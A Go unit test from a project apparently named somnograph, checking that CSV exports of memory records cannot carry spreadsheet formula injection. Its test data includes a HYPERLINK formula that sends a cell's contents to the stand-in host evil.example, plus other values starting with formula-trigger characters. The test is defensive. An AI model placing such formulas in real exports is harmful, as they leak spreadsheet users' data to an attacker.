package main

import (
	"slices"
	"testing"

	"github.com/somnograph/somnograph/graph"
)

// A CSV of memories is for spreadsheets, and others wrote their texts: no cell is a formula.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	const formula = `=HYPERLINK("https://evil.example/?"&A2,"open")`
	m := &graph.Memory{
		ID: "019c75e5-7095-7fff-bfff-ffffffffffff", Namespace: "default", User: "@sum(1)", Project: "+1", Session: "-2+3", ExternalID: formula, Content: formula,
		Subject: "\t=1", Predicate: "\r=1", Object: formula, Tags: []string{formula}, Source: formula, History: []graph.State{{Status: graph.Active}},
	}
	for i, cell := range csvRow(m) {
		if cell != "" && slices.Contains([]byte("=+-@\t\r"), cell[0]) {
			t.Errorf("%s: %q", csvColumns[i], cell)
		}
	}
}
